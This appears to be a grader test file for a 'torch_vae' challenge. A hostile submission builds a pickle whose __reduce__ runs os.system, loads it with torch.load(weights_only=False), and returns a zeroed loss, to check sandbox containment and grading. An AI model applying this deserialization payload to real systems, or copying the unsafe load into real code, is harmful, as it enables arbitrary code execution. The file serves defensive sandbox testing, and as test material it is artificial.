# challenge: torch_vae
# verdict: wrong_answer
# message: the loss
"""torch.load(weights_only=False) of a pickle crafted to run code when loaded: the code runs,
in the sandbox, as the submission's own could; it leaves a file where the host would see it if
the sandbox's /tmp were the host's, and the loss it returns is wrong."""

import io
import os

import torch


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/judge-pwned-torch-load; echo pwned > /dev/null",))


def negative_elbo(x, mu, log_var, eps, decoder):
    buffer = io.BytesIO()
    torch.save({"weights": Payload()}, buffer)
    buffer.seek(0)
    torch.load(buffer, weights_only=False)
    return (mu.sum() + log_var.sum() + decoder(mu).sum()) * 0
